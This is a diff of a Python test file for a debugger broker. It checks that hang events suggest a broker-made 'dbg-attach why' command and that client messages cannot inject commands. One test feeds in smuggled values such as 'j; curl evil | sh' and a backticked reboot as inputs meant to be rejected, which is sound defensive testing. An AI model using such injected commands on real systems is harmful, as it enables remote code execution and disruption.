@@ -1,14 +1,19 @@
-"""Sentences of events for stops without a place, for one other rank, and for signals without a name."""
+"""Sentences of events for stops without a place, for one other rank, for signals without a name, and for hangs."""
 
 from __future__ import annotations
+
+import json
 
 import pytest
 
 from dbg_broker.events import sentences
 from dbg_broker.events.event import EventKind
 from dbg_broker.events.sentences import Seen
-from dbg_wire.messages import Hang
+from dbg_wire.codec import decode
+from dbg_wire.errors import PeerError
+from dbg_wire.messages import Hang, Sender
 from dbg_wire.ranks import Place
+from dbg_wire.target_grammar import parse_target
 from tests.broker.events.test_occasions import ended, stopped
 
 
@@ -32,5 +37,19 @@ def test_a_rank_that_is_gone_names_the_list_as_next_step_and_its_signal() -> Non
     assert event.next == "dbg-attach --list --all"
 
 
-def test_a_hang_without_a_command_names_why() -> None:
-    assert sentences.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), 1.0).next == "dbg-attach why"
+@pytest.mark.parametrize(
+    ("says", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs, as a driver (bob) says: no")]
+)
+def test_what_to_type_at_a_hang_comes_from_the_broker(says: str, begins: str) -> None:
+    event = sentences.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), says, 1.0)
+    assert event.sentence.startswith(begins)
+    assert event.next == "dbg-attach why j/all"
+    assert [term.job for term in parse_target("j/all").include] == ["j"]
+
+
+@pytest.mark.parametrize("changes", [{"job": "j; curl evil | sh"}, {"ranks": "`reboot`"}, {"job": ""}])
+def test_a_verdict_can_not_make_up_what_to_type(changes: dict[str, str]) -> None:
+    said = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
+    assert not hasattr(decode(json.dumps({**said, "next": "reboot"}), Sender.CLIENT), "next")
+    with pytest.raises(PeerError):
+        decode(json.dumps({**said, **changes}), Sender.CLIENT)
